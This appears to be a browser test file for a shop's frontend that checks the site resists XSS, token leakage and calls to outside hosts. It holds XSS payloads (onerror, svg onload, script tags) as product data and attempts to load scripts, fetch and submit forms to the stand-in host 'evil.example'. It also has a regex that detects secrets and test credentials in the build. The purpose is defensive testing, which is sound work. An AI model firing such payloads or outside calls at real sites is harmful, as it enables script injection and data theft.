/** Attacks in the browser, and data that must never leave it. */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { forgeAccess, forgeRefresh } from './support/forgedToken';
import { goOn } from './support/controls';
import { fillLogin, submit } from './support/forms';
import { makeProduct } from './support/mockCatalog';
import { expect, test } from './support/mockTest';

const password = 'Walnut1234';

test('FE-01 FE-05 FE-08 FE-10 a journey with a hostile product runs no script, asks nobody else, and shows its tokens to nobody', async ({
  page,
  api,
  baseURL,
}) => {
  const [access, refresh] = [forgeAccess(), forgeRefresh()];
  const hostile = `<img src=x onerror="window.pwned = 1">"><svg/onload=window.pwned=1>{{7*7}}`;
  api.products = [
    makeProduct({ name: hostile, image: null, category: { id: 1, name: '<script>window.pwned = 1</script>' } }),
  ];
  api.answer('POST /api/user/login/', {
    body: { access, refresh, user: { id: 7, email: 'sita@example.com', first_name: 'Sita', last_name: 'Rai' } },
  });
  const sent: { url: string; body: string | null }[] = [];
  const printed: string[] = [];
  page.on('request', (request) => sent.push({ url: request.url(), body: request.postData() }));
  page.on('console', (message) => printed.push(message.text()));

  await page.goto('/products');
  await expect(page.getByTestId('product-card')).toContainText(hostile);
  await expect(page.getByTestId('product-card')).toContainText('<script>window.pwned = 1</script>');
  await page.getByRole('banner').getByRole('link', { name: 'Login', exact: true }).click();
  await fillLogin(page, 'sita@example.com', password);
  await submit(page).click();
  await expect(page.getByText('Login successful!').first()).toBeVisible();
  await goOn(page, '/products');
  await page.getByTestId('product-card').getByRole('button').click();
  await expect(page.getByText(`Added ${hostile} to cart`).first()).toBeVisible();
  await page.getByRole('banner').getByRole('link', { name: /cart/i }).click();
  await expect(page.getByTestId('cart-line')).toContainText(hostile);
  expect(await page.title()).not.toContain('49');

  const kept = await page.evaluate(() => ({
    local: Object.entries(localStorage),
    session: Object.values(sessionStorage),
    measured: performance.getEntries().map(({ name }) => name),
    pwned: 'pwned' in window,
  }));
  expect(kept.pwned).toBe(false);
  for (const token of [access, refresh])
    expect(kept.local.filter(([, value]) => value.includes(token)).map(([key]) => key)).toEqual([
      token === access ? 'access_token' : 'refresh_token',
    ]);

  // After the logout Back shows no cart.
  await page.getByRole('banner').getByRole('button', { name: /sita/i }).click();
  await page.getByRole('menuitem', { name: 'Logout' }).click();
  await expect(page.getByText('Logged out successfully').first()).toBeVisible();
  await page.goto('/');
  await page.goBack();
  await expect(
    page
      .getByRole('main')
      .getByRole('link', { name: /log ?in/i })
      .first(),
  ).toBeVisible();
  await expect(page.getByTestId('cart-line')).toHaveCount(0);
  expect(await page.evaluate(() => ['access_token', 'refresh_token'].map((key) => localStorage.getItem(key)))).toEqual([
    null,
    null,
  ]);

  const known = [new URL(baseURL!).origin, new URL(api.url).origin];
  expect(
    sent.map(({ url }) => url).filter((url) => !known.includes(new URL(url).origin) && !url.startsWith('data:')),
  ).toEqual([]);
  const places = [
    ...sent.map(({ url }) => url),
    ...printed,
    ...kept.measured,
    ...kept.session,
    ...sent.filter(({ url }) => !/login|refresh/.test(url)).map(({ body }) => body ?? ''),
  ].join('\n');
  for (const secret of [access, refresh, password]) expect(places.includes(secret)).toBe(false);
});

test('FE-10 in browsers that know trusted types, and in others, the page may neither call a stranger nor run what was put into it', async ({
  browser,
  baseURL,
}) => {
  // A separate context, because violations are expected here.
  const context = await browser.newContext({ baseURL, serviceWorkers: 'block' });
  for (const violations of [
    ['require-trusted-types-for', 'connect-src', 'form-action'],
    ['script-src-elem', 'script-src-attr', 'connect-src', 'form-action'],
  ]) {
    const page = await context.newPage();
    const foreignRequests: string[] = [];
    await context.route(/evil/, (route) => {
      foreignRequests.push(route.request().url());
      return route.fulfill({ body: 'window.pwned = 1', contentType: 'text/javascript' });
    });
    const trusted = violations[0] === 'require-trusted-types-for';
    await context.route('**/login', async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      const policy = headers['content-security-policy']!;
      await route.fulfill({
        response,
        headers: {
          ...headers,
          'content-security-policy': trusted ? policy : policy.replace(/; *require-trusted-types-for.*/, ''),
        },
      });
    });
    await page.goto('/login');
    await expect(submit(page)).toBeEnabled();
    const outcome = await page.evaluate(
      async ([withTypes, expected]) => {
        const found: string[] = [];
        // A form that is refused is reported later than the call that submits it.
        const allReported = new Promise<void>((resolve) => {
          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
            found.push(effectiveDirective);
            if (expected.every((directive) => found.includes(directive))) resolve();
          });
          // Only so that a missing one is named.
          setTimeout(resolve, 60_000);
        });
        const put = <K extends keyof HTMLElementTagNameMap>(
          tag: K,
          change: (element: HTMLElementTagNameMap[K]) => void,
        ) => {
          const element = document.createElement(tag);
          change(element);
          return document.body.appendChild(element);
        };
        const attempts: Record<string, () => unknown> = {
          markup: () => put('div', (host) => (host.innerHTML = '<img src="x" onerror="window.pwned = 1">')),
          frame: () => put('iframe', (frame) => (frame.srcdoc = '<script>parent.pwned = 1</script>')),
          script: () => put('script', (script) => (script.textContent = 'window.pwned = 1')),
          'script of a stranger': () => put('script', (script) => (script.src = 'https://evil.example/x.js')),
          handler: () => put('div', (host) => host.setAttribute('onclick', 'window.pwned = 1')).click(),
          // Code in a string that runs later; eval itself is allowed to the test driver.
          timer: () => (window.setTimeout as (text: string) => void)('window.pwned = 1'),
        };
        if (withTypes) {
          // Of this origin, but not a script of the shop.
          attempts['other script'] = () => put('script', (script) => (script.src = '/media/evil.js'));
          attempts['policy of his own'] = () =>
            (
              window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
            ).trustedTypes.createPolicy('evil', {});
        }
        const refused = Object.keys(attempts).filter((name) => {
          try {
            attempts[name]!();
            return false;
          } catch {
            return true;
          }
        });
        const called = await fetch('https://evil.example/').then(
          () => 'answered',
          () => 'blocked',
        );
        put('form', (form) => (form.action = 'https://evil.example/')).submit();
        await allReported;
        return { called, refused, all: Object.keys(attempts), pwned: 'pwned' in window, found };
      },
      [trusted, violations] as const,
    );
    expect(outcome).toMatchObject({ called: 'blocked', pwned: false });
    for (const directive of violations) expect(outcome.found).toContain(directive);
    if (trusted) expect(outcome.refused).toEqual(outcome.all);
    expect(foreignRequests).toEqual([]);
    await page.close();
    await context.unrouteAll({ behavior: 'wait' });
  }
  await context.close();
});

test('FE-07 the built client evaluates no text, and holds no secret, test user or address of a machine', () => {
  const folder = path.resolve(__dirname, '../build/client');
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((file) =>
    /\.(js|html|webmanifest)$/.test(file),
  );
  expect(files.length).toBeGreaterThan(3);
  for (const file of files) {
    const text = readFileSync(path.join(folder, file), 'utf8');
    // The specification's default address, and the base with which the router parses paths.
    const hosts = (text.match(/(?:localhost|127\.0\.0\.1|192\.168\.)[:\d]*/g) ?? []).filter(
      (host) => !['localhost:8000', 'localhost'].includes(host),
    );
    expect([file, hosts]).toEqual([file, []]);
    expect([
      file,
      /\beval\(|new Function\(|demo@mewapasal|Namaste123|eyJhbGciOi|BEGIN [A-Z ]*PRIVATE KEY|JWT_SECRET/.exec(
        text,
      )?.[0],
    ]).toEqual([file, undefined]);
  }
});

test('the page of all states is no part of the shop that is built', () => {
  const assets = path.resolve(__dirname, '../build/client/assets');
  const texts = readdirSync(assets)
    .filter((file) => file.endsWith('.js'))
    .map((file) => readFileSync(path.join(assets, file), 'utf8'));
  const isHeld = (text: string) => texts.some((script) => script.includes(text));
  // A route of the production build proves that the search works.
  expect(['/payment/success', '/dev/states', 'On its way into the cart'].map(isHeld)).toEqual([true, false, false]);
});
